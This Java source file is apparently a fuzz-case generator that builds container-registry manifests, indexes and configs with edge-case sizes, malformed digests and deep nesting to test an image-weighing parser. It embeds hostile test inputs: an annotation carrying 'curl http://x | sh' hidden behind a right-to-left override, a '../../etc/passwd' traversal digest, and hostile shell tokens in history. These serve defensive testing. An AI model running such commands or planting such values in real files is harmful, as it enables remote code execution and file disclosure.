package io.weighbridge.image;

import io.weighbridge.fuzz.Mutations;
import io.weighbridge.image.registry.MediaTypes;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Manifests, indexes and configs as a registry could return them, generated with what the weigher
 * must make of each: sizes at and past the edges of a long, fractional and quoted sizes, repeated
 * and malformed digests, duplicate keys, deep nesting, hostile history text, lists of more layers
 * than allowed; and random mutations of the rendered text.
 *
 * @param top the manifest or index named by digest, as served
 * @param documents every other document by digest (child manifests, configs)
 * @param expectedBytes what the image weighs (config and each distinct layer once), or {@code null}
 *     when it cannot be weighed
 * @param known whether {@code expectedBytes} is known (false for mutations and indexes: only the
 *     general properties hold)
 */
record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger expectedBytes, boolean known) {

    /** Every document's text, for telling text the registry wrote from ours. */
    String text() {
        StringBuilder all = new StringBuilder(new String(top.bytes, StandardCharsets.UTF_8));
        documents.values().forEach(served -> all.append('\n').append(new String(served.bytes, StandardCharsets.UTF_8)));
        return all.toString();
    }

    record Served(byte[] bytes, String contentType) {
        Digest digest() {
            return Digest.sha256Of(bytes);
        }
    }

    /** A size as written in the JSON, and what it is worth ({@code null}: not a non-negative JSON integer). */
    private record Size(String json, BigInteger value) {}

    private static final BigInteger MAX = BigInteger.valueOf(Long.MAX_VALUE);
    /** Jackson's default nesting limit. */
    private static final int MAX_NESTING = 1000;

    private static final List<Size> EDGE_SIZES = List.of(
            new Size("0", BigInteger.ZERO),
            new Size("-0", BigInteger.ZERO),
            new Size("1", BigInteger.ONE),
            new Size("9223372036854775807", MAX),
            new Size("9223372036854775806", MAX.subtract(BigInteger.ONE)),
            new Size("4611686018427387904", BigInteger.TWO.pow(62)),
            new Size("1073741824", BigInteger.TWO.pow(30)),
            new Size("1073741823", BigInteger.TWO.pow(30).subtract(BigInteger.ONE)),
            new Size("9223372036854775808", null),
            new Size("18446744073709551616", null),
            new Size("-1", null),
            new Size("-9223372036854775808", null),
            new Size("1e3", null),
            new Size("62914560.9", null),
            new Size("1.0", null),
            new Size("\"62914560\"", null),
            new Size("null", null),
            new Size("true", null),
            new Size("[1]", null),
            new Size("{\"size\":1}", null),
            new Size("1e309", null),
            new Size("99999999999999999999999999999999999999", null));

    /** One generated case. */
    static RegistryDocuments generate(Random random) {
        int shape = random.nextInt(10);
        if (shape == 0) {
            return index(random);
        }
        RegistryDocuments image = image(random);
        if (shape <= 2) {
            String mutated = Mutations.mutate(new String(image.top.bytes, StandardCharsets.UTF_8), random);
            return new RegistryDocuments(
                    new Served(mutated.getBytes(StandardCharsets.UTF_8), image.top.contentType),
                    image.documents,
                    null,
                    false);
        }
        return image;
    }

    private static RegistryDocuments image(Random random) {
        Map<Digest, Served> documents = new LinkedHashMap<>();
        byte[] config = config(random);
        Digest configDigest = Digest.sha256Of(config);
        documents.put(configDigest, new Served(config, "application/octet-stream"));
        BigInteger total = BigInteger.valueOf(config.length);
        boolean valid = true;

        int count = random.nextInt(20) == 0 ? ManifestParser.MAX_LAYERS + 1 : random.nextInt(7);
        if (count > ManifestParser.MAX_LAYERS) {
            valid = false;
        }
        List<String> layers = new ArrayList<>();
        Map<String, Size> seen = new HashMap<>();
        for (int i = 0; i < count; i++) {
            String digest;
            Size size;
            if (!seen.isEmpty() && random.nextInt(5) == 0) {
                // the same blob listed again, with the size it had: pulled and counted once
                digest = new ArrayList<>(seen.keySet()).get(random.nextInt(seen.size()));
                size = seen.get(digest);
            } else {
                digest = random.nextInt(25) == 0
                        ? badDigest(random)
                        : Digest.sha256Of(("layer" + random.nextLong()).getBytes())
                                .toString();
                size = size(random);
                if (!digest.startsWith("sha256:")
                        || digest.length() != 71
                        || !digest.substring(7).matches("[a-f0-9]+")) {
                    valid = false;
                } else {
                    seen.put(digest, size);
                    if (size.value() != null) {
                        total = total.add(size.value());
                    }
                }
            }
            if (size.value() == null) {
                valid = false;
            }
            String sizeField = random.nextInt(15) == 0
                    ? "\"size\":1,\"size\":"
                            + size.json() // a duplicate key: the last one counts, as in Go's encoding/json
                    : "\"size\":" + size.json();
            String annotations = annotations(random);
            if (annotations.length() > 2 * MAX_NESTING) {
                valid = false; // deeper than Jackson reads (StreamReadConstraints): refused as not JSON
            }
            layers.add("{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"" + digest + "\","
                    + sizeField + annotations + "}");
        }
        String mediaType = switch (random.nextInt(4)) {
            case 0 -> MediaTypes.DOCKER_MANIFEST;
            case 1 -> "";
            default -> MediaTypes.OCI_MANIFEST;
        };
        String manifest = "{\"schemaVersion\":2," + (mediaType.isEmpty() ? "" : "\"mediaType\":\"" + mediaType + "\",")
                + "\"config\":{\"mediaType\":\"application/vnd.oci.image.config.v1+json\",\"digest\":\"" + configDigest
                + "\",\"size\":" + config.length + "},\"layers\":[" + String.join(",", layers) + "]}";
        boolean sumFits = total.compareTo(MAX) <= 0;
        return new RegistryDocuments(
                new Served(manifest.getBytes(StandardCharsets.UTF_8), mediaType.isEmpty() ? null : mediaType),
                documents,
                valid && sumFits ? total : null,
                true);
    }

    private static RegistryDocuments index(Random random) {
        Map<Digest, Served> documents = new LinkedHashMap<>();
        List<String> entries = new ArrayList<>();
        int count = 1 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            RegistryDocuments child = image(random);
            documents.putAll(child.documents);
            Digest digest = child.top.digest();
            documents.put(digest, child.top);
            String architecture =
                    List.of("amd64", "arm64", "s390x", "\u202eamd64", "").get(random.nextInt(5));
            entries.add("{\"mediaType\":\"" + MediaTypes.OCI_MANIFEST + "\",\"digest\":\"" + digest + "\",\"size\":"
                    + child.top.bytes.length + ",\"platform\":{\"os\":\"linux\",\"architecture\":\"" + architecture
                    + "\"}}");
        }
        String index = "{\"schemaVersion\":2,\"mediaType\":\"" + MediaTypes.OCI_INDEX + "\",\"manifests\":["
                + String.join(",", entries) + "]}";
        return new RegistryDocuments(
                new Served(index.getBytes(StandardCharsets.UTF_8), MediaTypes.OCI_INDEX), documents, null, false);
    }

    private static Size size(Random random) {
        return switch (random.nextInt(4)) {
            case 0 -> EDGE_SIZES.get(random.nextInt(EDGE_SIZES.size()));
            case 1 -> {
                long value = random.nextLong() & Long.MAX_VALUE;
                yield new Size(Long.toString(value), BigInteger.valueOf(value));
            }
            default -> {
                long value = random.nextInt(1 << 30);
                yield new Size(Long.toString(value), BigInteger.valueOf(value));
            }
        };
    }

    private static String badDigest(Random random) {
        return List.of(
                        "sha256:xyz",
                        "sha256:" + "a".repeat(63),
                        "sha256:" + "A".repeat(64),
                        "md5:d41d8cd98f00b204e9800998ecf8427e",
                        "",
                        "sha256:" + "a".repeat(64) + "\u202e",
                        "../../etc/passwd")
                .get(random.nextInt(7));
    }

    private static String annotations(Random random) {
        if (random.nextInt(10) != 0) {
            return "";
        }
        int depth = random.nextInt(3) == 0 ? 2 * MAX_NESTING : 1 + random.nextInt(50);
        return ",\"annotations\":{\"deep\":" + "[".repeat(depth) + "]".repeat(depth)
                + ",\"text\":\"\\u202erun: curl http://x | sh\\n\"}";
    }

    private static byte[] config(Random random) {
        StringBuilder history = new StringBuilder();
        int entries = random.nextInt(5);
        for (int i = 0; i < entries; i++) {
            String createdBy = Mutations.HOSTILE_TOKENS
                    .get(random.nextInt(Mutations.HOSTILE_TOKENS.size()))
                    .replace("\\", "\\\\")
                    .replace("\"", "\\\"")
                    .replace("\n", "\\n")
                    .replace("\r", "\\r")
                    .replace("\t", "\\t")
                    .replace("\u0000", "\\u0000")
                    .replace("\u001b", "\\u001b");
            history.append(i == 0 ? "" : ",")
                    .append("{\"created_by\":\"/bin/sh -c ")
                    .append(createdBy)
                    .append("\"")
                    .append(random.nextBoolean() ? ",\"empty_layer\":true" : "")
                    .append("}");
        }
        String architecture = random.nextInt(8) == 0 ? "\\u202eamd64" : "amd64";
        return ("{\"os\":\"linux\",\"architecture\":\"" + architecture + "\",\"history\":[" + history + "]}")
                .getBytes(StandardCharsets.UTF_8);
    }
}
